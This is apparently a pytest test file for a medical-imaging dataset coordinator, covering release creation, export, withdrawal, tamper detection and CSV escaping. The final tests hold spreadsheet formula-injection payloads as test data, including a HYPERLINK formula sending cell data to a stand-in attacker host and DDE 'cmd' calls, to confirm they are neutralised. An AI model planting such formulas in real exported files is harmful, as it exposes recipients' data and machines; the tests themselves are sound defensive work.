"""Releases and withdrawal, on SQLite and on PostgreSQL: freeze, export, reproduce, diff."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from pathlib import Path

import pytest
from sqlalchemy import select

from coordinator import releases
from coordinator.errors import CoordinatorError
from coordinator.objects import FilesystemStore
from coordinator.registry import search
from coordinator.registry.db import Database
from coordinator.registry.models import AuditEntry, Release
from coordinator.settings import CoordinatorSettings
from protocols.api.coordinator import ExamFilters, ReleaseManifest
from tests.unit.coordinator.registry_data import ExamSpec, ensure_sites, generate, register

SPECS = generate(12)
CHEST = ExamFilters(body_part="CHEST")


@pytest.fixture
def store(settings: CoordinatorSettings) -> FilesystemStore:
    return FilesystemStore(settings.objects_dir)


@pytest.fixture
def registered(db: Database, store: FilesystemStore) -> Database:
    register(db, SPECS, store)
    return db


def tree(root: Path) -> dict[str, bytes]:
    """Every file under ``root`` by its relative path."""
    return {
        str(path.relative_to(root)): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file()
    }


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def chest(specs: list[ExamSpec] = SPECS) -> list[ExamSpec]:
    return [s for s in specs if s.body_part == "CHEST"]


def site_id(db: Database, spec: ExamSpec) -> int:
    return ensure_sites(db, [spec.site])[spec.site]


def test_create_exports_the_files_csvs_and_manifest(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings
) -> None:
    # Prepare
    wanted = chest()
    expected_files = {path: data for s in wanted for _, _, path, data in s.files()}

    # Execute
    made = releases.create(registered, store, settings, "ricord-1a", CHEST, "olga")

    # Assert: the tree holds exactly the files, each with its bytes.
    root = settings.releases_dir / "ricord-1a"
    files = tree(root)
    dicom = {path: data for path, data in files.items() if path.endswith(".dcm")}
    assert dicom == expected_files
    assert set(files) - set(dicom) == {"labels.csv", "clinical.csv", "manifest.json"}
    # The manifest is the one the release names, and lists every file with its digest.
    assert hashlib.sha256(files["manifest.json"]).hexdigest() == made.manifest_sha256
    manifest = ReleaseManifest.model_validate_json(files["manifest.json"])
    assert manifest.name == "ricord-1a" and manifest.filters == CHEST
    assert manifest.created_at == made.created_at
    listed = {f.path: f.sha256 for e in manifest.exams for f in e.files}
    assert listed == {p: hashlib.sha256(d).hexdigest() for p, d in expected_files.items()}
    # One CSV row per exam and label / clinical variable; pseudonym and study UID only.
    labels = rows(files["labels.csv"])
    assert labels[0] == ["pseudonym", "study_instance_uid", "scheme", "name", "value"]
    assert sorted(map(tuple, labels[1:])) == sorted(
        (s.pseudonym, s.study_uid, scheme, name, value)
        for s in wanted
        for (scheme, name), value in s.labels.items()
    )
    clinical = rows(files["clinical.csv"])
    assert clinical[0] == ["pseudonym", "study_instance_uid", "variable", "value"]
    assert sorted(map(tuple, clinical[1:])) == sorted(
        (s.pseudonym, s.study_uid, k, v) for s in wanted for k, v in s.clinical.items()
    )
    # The release records what it froze.
    assert made.name == "ricord-1a" and made.created_by == "olga"
    assert made.exam_count == len(wanted)
    assert made.instance_count == len(expected_files)
    assert made.withdrawn == []
    with registered.read() as session:
        entry = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "release.create")
        ).one()
    assert entry.subject == "ricord-1a" and entry.actor == "olga"
    assert json.loads(entry.details)["manifest"] == made.manifest_sha256


def test_a_release_goes_where_it_is_told(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings, tmp_path: Path
) -> None:
    made = releases.create(
        registered, store, settings, "r1", CHEST, "olga", dest=tmp_path / "out" / "r1"
    )

    assert (tmp_path / "out" / "r1" / "manifest.json").is_file()
    assert not (settings.releases_dir / "r1").exists()
    assert made.exam_count == len(chest())


def test_the_same_name_twice_is_refused(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings, tmp_path: Path
) -> None:
    # Prepare
    first = releases.create(registered, store, settings, "r1", CHEST, "olga")

    # Execute
    with pytest.raises(CoordinatorError) as caught:
        releases.create(
            registered, store, settings, "r1", ExamFilters(), "olga", dest=tmp_path / "again"
        )

    # Assert
    assert caught.value.code == "release_exists"
    assert releases.get(registered, "r1") == first
    assert not (tmp_path / "again").exists()


@pytest.mark.parametrize(
    ("name", "filters", "code"),
    [
        ("../escape", CHEST, "invalid_argument"),
        ("", CHEST, "invalid_argument"),
        ("empty", ExamFilters(site="nowhere"), "release_empty"),
    ],
)
def test_bad_releases_are_refused(
    registered: Database,
    store: FilesystemStore,
    settings: CoordinatorSettings,
    name: str,
    filters: ExamFilters,
    code: str,
) -> None:
    with pytest.raises(CoordinatorError) as caught:
        releases.create(registered, store, settings, name, filters, "olga")

    assert caught.value.code == code
    assert releases.list_releases(registered) == []


def test_a_release_does_not_change_when_exams_come_later(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings, tmp_path: Path
) -> None:
    # Prepare
    first = releases.create(registered, store, settings, "r1", CHEST, "olga")
    exported = tree(settings.releases_dir / "r1")
    later = generate(6, start=100)
    register(registered, later, store)

    # Execute
    again = releases.export(registered, store, settings, "r1", tmp_path / "r1-again")
    second = releases.create(registered, store, settings, "r2", CHEST, "olga", export=False)
    change = releases.diff(registered, "r1", "r2")

    # Assert
    assert releases.get(registered, "r1") == first
    assert tree(again) == exported
    assert second.exam_count == first.exam_count + len(chest(later))
    assert change.added == sorted(s.study_uid for s in chest(later))
    assert change.removed == [] and change.unchanged == first.exam_count
    assert [r.name for r in releases.list_releases(registered)] == ["r1", "r2"]


def test_a_withdrawn_exam_stays_in_earlier_releases_and_leaves_later_ones(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings, tmp_path: Path
) -> None:
    # Prepare
    releases.create(registered, store, settings, "r1", CHEST, "olga")
    exported = tree(settings.releases_dir / "r1")
    gone = chest()[1]

    # Execute
    withdrawn = releases.withdraw(
        registered, site_id(registered, gone), gone.study_uid, "consent withdrawn", "site:x"
    )
    second = releases.create(registered, store, settings, "r2", CHEST, "olga", export=False)
    again = releases.export(registered, store, settings, "r1", tmp_path / "r1-again")

    # Assert
    assert withdrawn.releases == ["r1"]
    assert releases.get(registered, "r1").withdrawn == [gone.study_uid]
    assert releases.get(registered, "r2").withdrawn == []
    assert second.exam_count == len(chest()) - 1
    assert releases.diff(registered, "r1", "r2").removed == [gone.study_uid]
    assert tree(again) == exported  # byte for byte, the withdrawn exam included
    assert any(gone.study_uid in path for path in exported)
    page = search.search(registered, CHEST, limit=500)
    assert gone.study_uid not in {e.study_instance_uid for e in page.items}
    with registered.read() as session:
        entry = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "exam.withdraw")
        ).one()
    assert (entry.subject, entry.actor) == (gone.study_uid, "site:x")
    assert json.loads(entry.details) == {"reason": "consent withdrawn"}


def test_only_the_owning_site_may_withdraw_its_exam(registered: Database) -> None:
    # Prepare
    spec = SPECS[0]
    other = next(s for s in SPECS if s.site != spec.site)

    # Execute
    with pytest.raises(CoordinatorError) as not_owned:
        releases.withdraw(registered, site_id(registered, other), spec.study_uid, "no", "site:y")
    with pytest.raises(CoordinatorError) as unknown:
        releases.withdraw(registered, site_id(registered, spec), "1.2.3.4", "no", "site:x")
    first = releases.withdraw(registered, site_id(registered, spec), spec.study_uid, "a", "s")
    second = releases.withdraw(registered, site_id(registered, spec), spec.study_uid, "b", "s")

    # Assert
    assert not_owned.value.code == "exam_not_owned"
    assert unknown.value.code == "exam_not_found"
    assert second.withdrawn_at == first.withdrawn_at  # once is enough
    with registered.read() as session:
        entries = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "exam.withdraw")
        ).all()
    assert len(entries) == 1


def _tamper(store: FilesystemStore, sha256: str) -> None:
    path = store.path(sha256)
    os.chmod(path, 0o600)
    path.write_bytes(b"\0" * 128 + b"DICM" + b"not what was registered")


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def test_a_tampered_object_fails_the_export_and_leaves_nothing(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings, tmp_path: Path
) -> None:
    # Prepare
    releases.create(registered, store, settings, "r1", CHEST, "olga", export=False)
    _, _, path, data = chest()[-1].files()[-1]
    _tamper(store, hashlib.sha256(data).hexdigest())
    (tmp_path / "exports").mkdir()

    # Execute
    with pytest.raises(CoordinatorError) as caught:
        releases.export(registered, store, settings, "r1", tmp_path / "exports" / "r1")

    # Assert
    assert caught.value.code == "release_object_corrupt"
    assert path in caught.value.message and "nothing was exported" in caught.value.message
    assert _leftovers(tmp_path / "exports") == []


def test_a_tampered_object_fails_the_release_and_records_nothing(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings
) -> None:
    # Prepare
    _, _, _, data = chest()[0].files()[0]
    _tamper(store, hashlib.sha256(data).hexdigest())

    # Execute
    with pytest.raises(CoordinatorError) as caught:
        releases.create(registered, store, settings, "r1", CHEST, "olga")

    # Assert
    assert caught.value.code == "release_object_corrupt"
    assert _leftovers(settings.releases_dir) == []
    with registered.read() as session:
        assert session.scalars(select(Release)).all() == []


def test_a_missing_object_fails_the_export_clearly(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings, tmp_path: Path
) -> None:
    releases.create(registered, store, settings, "r1", CHEST, "olga", export=False)
    _, _, _, data = chest()[0].files()[0]
    store.delete(hashlib.sha256(data).hexdigest())
    (tmp_path / "exports").mkdir()

    with pytest.raises(CoordinatorError) as caught:
        releases.export(registered, store, settings, "r1", tmp_path / "exports" / "r1")

    assert caught.value.code == "release_object_missing"
    assert _leftovers(tmp_path / "exports") == []


def test_an_export_never_overwrites_a_folder(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings, tmp_path: Path
) -> None:
    releases.create(registered, store, settings, "r1", CHEST, "olga", export=False)
    (tmp_path / "taken").mkdir()
    (tmp_path / "taken" / "mine.txt").write_text("keep me")

    with pytest.raises(CoordinatorError) as caught:
        releases.export(registered, store, settings, "r1", tmp_path / "taken")

    assert caught.value.code == "export_exists"
    assert tree(tmp_path / "taken") == {"mine.txt": b"keep me"}


def test_unknown_releases_are_not_found(
    registered: Database, store: FilesystemStore, settings: CoordinatorSettings, tmp_path: Path
) -> None:
    releases.create(registered, store, settings, "r1", CHEST, "olga", export=False)

    for call in (
        lambda: releases.get(registered, "r9"),
        lambda: releases.diff(registered, "r1", "r9"),
        lambda: releases.export(registered, store, settings, "r9", tmp_path / "r9"),
    ):
        with pytest.raises(CoordinatorError) as caught:
            call()
        assert caught.value.code == "release_not_found"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x.test/?"&A1,"open")', '\'=HYPERLINK("http://x.test/?"&A1,"open")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "-1.5"),
        ("+3e2", "+3e2"),
        ("-.5", "-.5"),
        ("positive", "positive"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str, written: str) -> None:
    assert releases.spreadsheet_safe(cell) == written


def test_formula_values_from_a_site_are_inert_in_the_csvs_and_kept_in_the_manifest(
    db: Database, store: FilesystemStore, settings: CoordinatorSettings
) -> None:
    # Prepare: a site's label and clinical values that a spreadsheet would run.
    formula = '=HYPERLINK("http://attacker.test/?"&B2,"Click")'
    spec = generate(1, start=500)[0]
    spec.labels = {("ricord", "covid"): formula}
    spec.clinical = {"sex": "@SUM(1+1)*cmd|' /C calc'!A0", "age": "-3"}
    register(db, [spec], store)

    # Execute
    made = releases.create(db, store, settings, "formulas", ExamFilters(), "olga")

    # Assert: no cell of either CSV starts a formula; the manifest has the values as sent.
    root = settings.releases_dir / "formulas"
    labels = rows((root / "labels.csv").read_bytes())
    clinical = rows((root / "clinical.csv").read_bytes())
    for row in labels[1:] + clinical[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-3", cell
    assert ["'" + formula] == [row[4] for row in labels[1:]]
    assert {row[2]: row[3] for row in clinical[1:]} == {
        "sex": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "age": "-3",
    }
    manifest = ReleaseManifest.model_validate_json((root / "manifest.json").read_bytes())
    assert made.exam_count == 1
    assert manifest.exams[0].labels[0].value == formula
    assert manifest.exams[0].clinical == spec.clinical
